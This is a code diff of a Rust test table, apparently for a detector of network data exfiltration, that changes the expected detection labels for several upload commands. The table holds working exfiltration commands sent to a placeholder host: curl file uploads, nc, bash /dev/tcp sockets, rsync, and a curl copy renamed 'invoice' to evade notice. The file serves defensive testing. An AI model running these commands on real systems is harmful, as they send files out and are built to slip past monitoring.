@@ -36,7 +36,7 @@ type Upload = (u16, &'static str, &'static str, &'static str, Told);
 const UPLOADS: [Upload; 12] = [
     (9001, "games", "curl", "curl -sS -H Expect: -T $FILE http://$TO:9001/a", Told::Kind("foreign_transfer")),
     (9002, "man", "curl", "curl -gsS -H Expect: -T $FILE http://[$TO6]:9002/a", Told::Kind("foreign_transfer")),
-    (9003, "lp", "nc", "nc -N $TO 9003 < $FILE", Told::Kind("foreign_transfer")),
+    (9003, "lp", "nc", "nc -N $TO 9003 < $FILE", Told::Kind("covert_channel")),
     (
         9004,
         "mail",
@@ -44,20 +44,20 @@ const UPLOADS: [Upload; 12] = [
         "cp /usr/bin/curl invoice; ./invoice -sS -H Expect: -T $FILE http://$TO:9004/a",
         Told::Kind("foreign_transfer"),
     ),
-    // A process of some milliseconds.
+    // A process of some milliseconds. What a shell connects to itself a rule tells, however little it sends.
     (
         9005,
         "news",
         "bash",
         "bash -c 'exec 3<>/dev/tcp/$TO/9005; printf %0100000d 0 >&3; kill -9 $$$$' || true",
-        Told::Not,
+        Told::Kind("covert_channel"),
     ),
     (
         9006,
         "uucp",
         "bash",
         "for i in $(seq 3000); do exec 3<>/dev/tcp/$TO/9006; printf %0500d 0 >&3; exec 3>&-; done",
-        Told::Kind("foreign_transfer"),
+        Told::Kind("covert_channel"),
     ),
     (9007, "proxy", "rsync", "rsync $FILE rsync://$TO:9007/in/", Told::Kind("foreign_transfer")),
     (
